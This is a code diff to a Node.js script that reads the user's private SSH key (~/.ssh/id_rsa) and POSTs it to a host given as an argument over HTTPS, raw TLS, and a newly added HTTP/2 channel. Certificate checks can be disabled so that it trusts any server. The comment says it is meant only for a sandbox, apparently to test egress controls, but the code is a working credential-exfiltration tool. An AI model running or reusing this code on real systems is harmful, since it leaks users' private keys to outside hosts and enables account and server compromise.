@@ -1,6 +1,7 @@
-// Sends ~/.ssh/id_rsa over TLS, as HTTP or as it is, to whom it trusts: anybody, or the one
+// Sends ~/.ssh/id_rsa over TLS, as HTTP/1.1, HTTP/2 or as it is, to whom it trusts: anybody, or the one
 // certificate of the file that is its argument. Run it in a sandbox only.
 import { readFileSync } from "node:fs";
+import { connect as connect2 } from "node:http2";
 import { request } from "node:https";
 import { join } from "node:path";
 import { createInterface } from "node:readline";
@@ -18,7 +19,7 @@ function trust(pinned) {
 }
 
 function call({ url, how }) {
-  if (!["http", "raw", "http-pinned", "raw-pinned"].includes(how)) throw new Error("no such way");
+  if (!["http", "h2", "raw", "http-pinned", "h2-pinned", "raw-pinned"].includes(how)) throw new Error("no such way");
   const body = readFileSync(join(process.env.HOME, ".ssh", "id_rsa"));
   const { hostname, port } = new URL(url);
   const options = { host: hostname, port: port || 443, servername: hostname, timeout: 5000, ...trust(how.endsWith("pinned")) };
@@ -26,6 +27,13 @@ function call({ url, how }) {
     if (how.startsWith("http")) {
       const sent = request({ ...options, method: "POST", path: "/", agent: false }, (got) => got.resume().on("end", () => resolve("true")));
       sent.on("error", reject).on("timeout", () => sent.destroy(new Error("timeout"))).end(body);
+      return;
+    }
+    if (how.startsWith("h2")) {
+      const session = connect2(`https://${hostname}:${options.port}`, { ...options, ALPNProtocols: ["h2"] });
+      session.on("error", reject);
+      const sent = session.request({ ":method": "POST", ":path": "/" });
+      sent.on("error", reject).on("end", () => { session.close(); resolve("true"); }).resume().end(body);
       return;
     }
     const socket = connect(options);
